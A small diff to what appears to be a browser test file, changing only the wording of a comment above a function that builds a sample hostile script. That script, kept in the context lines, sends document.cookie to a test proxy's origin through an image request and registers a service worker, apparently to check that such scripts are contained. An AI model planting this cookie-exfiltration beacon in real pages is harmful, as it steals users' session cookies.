@@ -33,7 +33,7 @@ beforeEach(async () => {
 });
 afterEach(() => context.close());
 
-/** What a hostile script does first: tells its maker that it runs, and which cookies it can read. */
+/** What a hostile script does first: it reports to its author that it runs, and which cookies it can read. */
 function script(): string {
   return `try { new Image().src = '${proxy.upstream.origin}/ran?' + encodeURIComponent(document.cookie); } catch {}
     try { navigator.serviceWorker.register('${FILE}'); } catch {}`;
